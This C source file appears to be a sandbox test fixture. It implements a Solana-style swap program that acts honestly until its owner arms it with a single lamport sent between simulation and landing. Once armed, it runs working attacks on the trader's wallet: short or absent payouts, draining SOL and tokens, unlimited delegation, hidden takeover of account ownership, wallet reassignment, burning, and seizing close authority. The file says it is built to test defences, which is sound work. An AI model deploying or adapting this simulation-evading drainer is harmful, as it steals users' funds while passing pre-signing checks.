/*
 * A swap program with two faces, for tests of what keeps money when everything else has failed. It
 * takes the same instruction as the sandbox's own program (amm.c) and makes an honest swap of it,
 * until its owner arms it: then it attacks. He does so after the simulation and before the landing,
 * by a lamport that he sends to the pool: an odd balance arms the program.
 *
 * Instruction data as in amm.c, 20 bytes, little endian:
 *   0      tag, not looked at
 *   1..8   amount in, 9..16 minimum out, which is also what an honest swap pays
 *   17     bump of the pool, 18 attack (see below), 19 place of the token account to attack
 *
 * Accounts as in amm.c. The pool is the program address of the seed "pool" and the bump, and its
 * vaults are any token accounts of that address. Where both token programs are the same, the system
 * program may stand in the place of the second one, for attacks on the wallet's SOL.
 */

#include "runtime.h"

enum {
  ERROR_ACCOUNTS_MISSING = 6002,
  INSTRUCTION_DATA_LENGTH = 20,
  TOKEN_ACCOUNT_AMOUNT = 64,
  MINT_DECIMALS = 44,
};

enum {
  ATTACK_NONE,
  ATTACK_PAY_NOTHING,
  ATTACK_PAY_SHORT,
  ATTACK_TAKE_SOL,
  ATTACK_TAKE_ALL_OF_SOURCE,
  ATTACK_DELEGATE,
  ATTACK_GIVE_AWAY,
  ATTACK_ASSIGN_WALLET,
  ATTACK_BURN,
  ATTACK_CLOSE_SOURCE,
  ATTACK_TAKE_CLOSING,
};

enum {
  AUTHORITY,
  SOURCE,
  DESTINATION,
  SOURCE_MINT,
  DESTINATION_MINT,
  POOL,
  SOURCE_VAULT,
  DESTINATION_VAULT,
  SOURCE_TOKEN_PROGRAM,
  DESTINATION_TOKEN_PROGRAM,
  ACCOUNT_COUNT,
};

enum {
  SYSTEM_ASSIGN = 1,
  SYSTEM_TRANSFER = 2,
  TOKEN_APPROVE = 4,
  TOKEN_SET_AUTHORITY = 6,
  TOKEN_BURN = 8,
  TOKEN_CLOSE_ACCOUNT = 9,
  TOKEN_TRANSFER_CHECKED = 12,
  AUTHORITY_ACCOUNT_OWNER = 2,
  AUTHORITY_CLOSE_ACCOUNT = 3,
};

#define U64_MAX 0xffffffffffffffffULL

/* Two and not one: a venue may round its least output up and the trader his own down. */
#define SHORTFALL 2

enum { CALL_METAS_MAX = 4, CALL_DATA_MAX = 52 };

struct workspace {
  struct account_info accounts[ACCOUNT_COUNT];
  u64 amount_in;
  u64 minimum_out;
  u8 *pool_bump;
  u64 attack;
  int target;
  u8 *program_address;
  u8 pool_prefix[4];
  struct seed pool_seeds[2];
  struct signer_seeds pool_signer;
  struct account_info call_accounts[CALL_METAS_MAX + 1];
  struct account_meta call_metas[CALL_METAS_MAX];
  struct instruction call;
  u8 call_data[CALL_DATA_MAX];
};

#define WORKSPACE ((struct workspace *)0x300000000ULL)

INLINE u64 read_input(u8 *input) {
  struct workspace *work = WORKSPACE;
  if (read_u64(input) != ACCOUNT_COUNT) return ERROR_ACCOUNTS_MISSING;
  u8 *cursor = input + 8;

  KEEP_LOOP
  for (u64 index = 0; index < ACCOUNT_COUNT; index++) {
    struct account_info *account = &work->accounts[index];
    if (cursor[0] != NOT_A_DUPLICATE) {
      *account = work->accounts[cursor[0]];
      cursor += 8;
      continue;
    }
    account->is_signer = cursor[1];
    account->is_writable = cursor[2];
    account->is_executable = cursor[3];
    cursor += 8;
    account->address = cursor;
    cursor += ADDRESS_LENGTH;
    account->owner = cursor;
    cursor += ADDRESS_LENGTH;
    account->lamports = (u64 *)cursor;
    cursor += 8;
    account->data_length = read_u64(cursor);
    cursor += 8;
    account->data = cursor;
    cursor += account->data_length + ACCOUNT_GROWTH_ROOM;
    cursor = (u8 *)(((u64)cursor + 7) & ~7ULL);
    account->rent_epoch = read_u64(cursor);
    cursor += 8;
  }

  u8 *data = cursor + 8;
  work->amount_in = read_u64(data + 1);
  work->minimum_out = read_u64(data + 9);
  work->pool_bump = data + 17;
  work->attack = data[18];
  work->target = data[19] == DESTINATION ? DESTINATION : SOURCE;
  work->program_address = data + INSTRUCTION_DATA_LENGTH;

  work->pool_prefix[0] = 'p';
  work->pool_prefix[1] = 'o';
  work->pool_prefix[2] = 'o';
  work->pool_prefix[3] = 'l';
  work->pool_seeds[0].bytes = work->pool_prefix;
  work->pool_seeds[0].length = 4;
  work->pool_seeds[1].bytes = work->pool_bump;
  work->pool_seeds[1].length = 1;
  work->pool_signer.seeds = work->pool_seeds;
  work->pool_signer.length = 2;
  return 0;
}

INLINE void name_account(int place, int account, boolean is_writable, boolean is_signer) {
  struct workspace *work = WORKSPACE;
  work->call_accounts[place] = work->accounts[account];
  work->call_metas[place].address = work->accounts[account].address;
  work->call_metas[place].is_writable = is_writable;
  work->call_metas[place].is_signer = is_signer;
}

INLINE u64 call(int program, u64 accounts_length, u64 data_length) {
  struct workspace *work = WORKSPACE;
  work->call_accounts[accounts_length] = work->accounts[program];
  work->call.program_address = work->accounts[program].address;
  work->call.accounts = work->call_metas;
  work->call.accounts_length = accounts_length;
  work->call.data = work->call_data;
  work->call.data_length = data_length;
  return sol_invoke_signed_c(&work->call, work->call_accounts, accounts_length + 1,
                             &work->pool_signer, 1);
}

INLINE void write_address(u8 *bytes, const u8 *address) {
  KEEP_LOOP
  for (int index = 0; index < ADDRESS_LENGTH; index++) bytes[index] = address[index];
}

INLINE int destination_program(void) {
  boolean is_system =
      address_is(WORKSPACE->accounts[DESTINATION_TOKEN_PROGRAM].address, 0, 0, 0, 0);
  return is_system ? SOURCE_TOKEN_PROGRAM : DESTINATION_TOKEN_PROGRAM;
}

INLINE int target_program(void) {
  return WORKSPACE->target == SOURCE ? SOURCE_TOKEN_PROGRAM : destination_program();
}

INLINE u64 token_balance(int account) {
  return read_u64(WORKSPACE->accounts[account].data + TOKEN_ACCOUNT_AMOUNT);
}

INLINE u64 pay_in(u64 amount) {
  struct workspace *work = WORKSPACE;
  name_account(0, SOURCE, 1, 0);
  name_account(1, SOURCE_MINT, 0, 0);
  name_account(2, SOURCE_VAULT, 1, 0);
  name_account(3, AUTHORITY, 0, 1);
  work->call_data[0] = TOKEN_TRANSFER_CHECKED;
  write_u64(work->call_data + 1, amount);
  work->call_data[9] = work->accounts[SOURCE_MINT].data[MINT_DECIMALS];
  return call(SOURCE_TOKEN_PROGRAM, 4, 10);
}

INLINE u64 pay_out(u64 amount) {
  struct workspace *work = WORKSPACE;
  name_account(0, DESTINATION_VAULT, 1, 0);
  name_account(1, DESTINATION_MINT, 0, 0);
  name_account(2, DESTINATION, 1, 0);
  name_account(3, POOL, 0, 1);
  work->call_data[0] = TOKEN_TRANSFER_CHECKED;
  write_u64(work->call_data + 1, amount);
  work->call_data[9] = work->accounts[DESTINATION_MINT].data[MINT_DECIMALS];
  return call(destination_program(), 4, 10);
}

INLINE u64 take_sol(u64 lamports) {
  struct workspace *work = WORKSPACE;
  name_account(0, AUTHORITY, 1, 1);
  name_account(1, POOL, 1, 0);
  write_u64(work->call_data, SYSTEM_TRANSFER);
  write_u64(work->call_data + 4, lamports);
  return call(DESTINATION_TOKEN_PROGRAM, 2, 12);
}

INLINE u64 assign_wallet(void) {
  struct workspace *work = WORKSPACE;
  name_account(0, AUTHORITY, 1, 1);
  write_u64(work->call_data, SYSTEM_ASSIGN);
  write_address(work->call_data + 4, work->program_address);
  return call(DESTINATION_TOKEN_PROGRAM, 1, 36);
}

INLINE u64 approve(int delegate, int owner) {
  struct workspace *work = WORKSPACE;
  name_account(0, work->target, 1, 0);
  name_account(1, delegate, 0, 0);
  name_account(2, owner, 0, 1);
  work->call_data[0] = TOKEN_APPROVE;
  write_u64(work->call_data + 1, U64_MAX);
  return call(target_program(), 3, 9);
}

INLINE u64 take_authority(u8 authority) {
  struct workspace *work = WORKSPACE;
  name_account(0, work->target, 1, 0);
  name_account(1, AUTHORITY, 0, 1);
  work->call_data[0] = TOKEN_SET_AUTHORITY;
  work->call_data[1] = authority;
  work->call_data[2] = 1;
  write_address(work->call_data + 3, work->accounts[POOL].address);
  return call(target_program(), 2, 35);
}

/* The pool becomes the owner and makes the wallet its delegate: to the wallet it looks its own. */
INLINE u64 give_away(void) {
  u64 error = take_authority(AUTHORITY_ACCOUNT_OWNER);
  if (error) return error;
  return approve(AUTHORITY, POOL);
}

INLINE u64 burn(void) {
  struct workspace *work = WORKSPACE;
  name_account(0, work->target, 1, 0);
  name_account(1, work->target == SOURCE ? SOURCE_MINT : DESTINATION_MINT, 1, 0);
  name_account(2, AUTHORITY, 0, 1);
  work->call_data[0] = TOKEN_BURN;
  write_u64(work->call_data + 1, SHORTFALL);
  return call(target_program(), 3, 9);
}

INLINE u64 close_source(void) {
  struct workspace *work = WORKSPACE;
  name_account(0, SOURCE, 1, 0);
  name_account(1, POOL, 1, 0);
  name_account(2, AUTHORITY, 0, 1);
  work->call_data[0] = TOKEN_CLOSE_ACCOUNT;
  return call(SOURCE_TOKEN_PROGRAM, 3, 1);
}

INLINE u64 attack(u64 kind) {
  switch (kind) {
    case ATTACK_TAKE_SOL:
      return take_sol(WORKSPACE->amount_in);
    case ATTACK_TAKE_ALL_OF_SOURCE:
      return pay_in(token_balance(SOURCE));
    case ATTACK_DELEGATE:
      return approve(POOL, AUTHORITY);
    case ATTACK_GIVE_AWAY:
      return give_away();
    case ATTACK_ASSIGN_WALLET:
      return assign_wallet();
    case ATTACK_BURN:
      return burn();
    case ATTACK_CLOSE_SOURCE:
      return close_source();
    case ATTACK_TAKE_CLOSING:
      return take_authority(AUTHORITY_CLOSE_ACCOUNT);
    default:
      return 0;
  }
}

u64 entrypoint(u8 *input) {
  struct workspace *work = WORKSPACE;
  u64 error = read_input(input);
  if (error) return error;
  boolean is_armed = *work->accounts[POOL].lamports & 1;
  u64 kind = is_armed ? work->attack : ATTACK_NONE;

  error = pay_in(work->amount_in);
  if (error) return error;
  if (kind == ATTACK_PAY_NOTHING) return 0;
  u64 paid = work->minimum_out - (kind == ATTACK_PAY_SHORT ? SHORTFALL : 0);
  error = pay_out(paid);
  if (error) return error;
  return attack(kind);
}
